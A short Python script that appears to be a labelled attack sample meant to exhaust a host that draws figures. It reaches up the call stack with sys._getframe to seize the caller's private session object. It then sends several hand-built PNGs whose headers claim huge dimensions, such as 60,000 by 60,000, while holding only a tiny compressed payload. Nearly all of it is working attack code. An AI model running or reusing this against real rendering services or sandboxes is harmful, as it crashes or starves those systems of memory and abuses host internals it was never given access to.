# class: exhaust
# success: a small picture that unfolds to a huge one is kept for the page to draw
import struct, sys, zlib
import numpy as np

def session_of():
    frame = sys._getframe()
    while frame:
        if hasattr(frame.f_locals.get("self"), "_send"):
            return frame.f_locals["self"]
        frame = frame.f_back

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

def solve(x):
    for width, height in ((60_000, 60_000), (2**31 - 1, 1), (5, 2**31), (6_001, 10)):
        header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 0))
        png = b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(10_000))) + chunk(b"IEND", b"")
        session_of()._send({"kind": "figure", "title": "", "png": np.frombuffer(png, dtype=np.uint8)})
    return 0
